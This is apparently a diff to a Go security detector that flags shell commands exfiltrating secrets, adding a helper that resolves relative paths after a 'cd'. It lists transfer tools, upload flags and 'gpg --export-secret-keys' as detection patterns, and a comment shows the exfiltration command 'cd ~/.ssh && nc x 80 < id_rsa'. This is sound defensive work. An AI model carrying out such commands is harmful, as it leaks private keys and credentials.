@@ -48,30 +48,30 @@ func exfiltrates(c *parse.Command) bool {
 		return true
 	}
 	for _, r := range c.Redirs {
-		if r.Op == "<" && secretFile(r.Target.Value) {
+		if r.Op == "<" && secretAt(c, r.Target.Value) {
 			return true
 		}
 	}
 	for i, w := range c.Args[1:] {
 		v := w.Value
-		if _, val, ok := strings.Cut(v, "=@"); ok && secretFile(val) {
+		if _, val, ok := strings.Cut(v, "=@"); ok && secretAt(c, val) {
 			return true
 		}
-		if strings.HasPrefix(v, "@") && secretFile(v[1:]) {
+		if strings.HasPrefix(v, "@") && secretAt(c, v[1:]) {
 			return true
 		}
-		if _, val, ok := strings.Cut(v, "--post-file="); ok && secretFile(val) || strings.HasPrefix(v, "--body-file=") && secretFile(strings.TrimPrefix(v, "--body-file=")) {
+		if _, val, ok := strings.Cut(v, "--post-file="); ok && secretAt(c, val) || strings.HasPrefix(v, "--body-file=") && secretAt(c, strings.TrimPrefix(v, "--body-file=")) {
 			return true
 		}
 		prev := ""
 		if i > 0 {
 			prev = c.Args[i].Value
 		}
-		if (name == "scp" || name == "rsync" || name == "sftp" || name == "rclone" || name == "aws" || name == "gsutil") && secretFile(v) &&
+		if (name == "scp" || name == "rsync" || name == "sftp" || name == "rclone" || name == "aws" || name == "gsutil") && secretAt(c, v) &&
 			!strings.HasPrefix(v, "-") && !contains([]string{"-i", "-F", "-o", "-e", "--rsh", "-S", "--identity", "-J", "--exclude", "--include", "--filter", "-f", "--exclude-from", "--include-from"}, prev) && !strings.HasPrefix(v, "--") {
 			return true
 		}
-		if (prev == "-T" || prev == "--upload-file" || prev == "--post-file" || prev == "-d" || prev == "--data" || prev == "--data-binary" || prev == "-F" || prev == "--form") && secretFile(strings.TrimPrefix(v, "@")) {
+		if (prev == "-T" || prev == "--upload-file" || prev == "--post-file" || prev == "-d" || prev == "--data" || prev == "--data-binary" || prev == "-F" || prev == "--form") && secretAt(c, strings.TrimPrefix(v, "@")) {
 			return true
 		}
 		if !w.Static && secretInURL(v) {
@@ -91,19 +91,25 @@ func exfiltrates(c *parse.Command) bool {
 			}
 		case "gpg", "gpg2":
 			for _, w := range s.Args {
-				if w.Value == "--export-secret-keys" || w.Value == "--export-secret-subkeys" || secretFile(w.Value) {
+				if w.Value == "--export-secret-keys" || w.Value == "--export-secret-subkeys" || secretAt(s, w.Value) {
 					return true
 				}
 			}
 		case "cat", "tar", "zip", "base64", "gzip", "head", "tail", "xxd", "7z", "cpio", "bsdtar", "gtar":
 			for _, w := range s.Args[1:] {
-				if secretFile(w.Value) || s.Name() != "cat" && wholeHome(w.Value) {
+				if secretAt(s, w.Value) || s.Name() != "cat" && (wholeHome(w.Value) || s.Dir != "" && wholeHome(parse.Clean(s.Resolve(w.Value)))) {
 					return true
 				}
 			}
 		}
 	}
 	return false
+}
+
+// secretAt reports a path that holds secrets, as written or where the
+// line's own cd makes a relative one point: cd ~/.ssh && nc x 80 < id_rsa.
+func secretAt(c *parse.Command, p string) bool {
+	return secretFile(p) || c.Dir != "" && secretFile(c.Resolve(p))
 }
 
 // sendsSecret reports a file the command sends that is a secret, by the
@@ -117,7 +123,7 @@ func sendsSecret(c *parse.Command) bool {
 	}
 	p, words := read(c)
 	for _, s := range g.Sent(p, words) {
-		if secretFile(s.Path) || c.Dir != "" && secretFile(c.Resolve(s.Path)) {
+		if secretAt(c, s.Path) {
 			return true
 		}
 	}
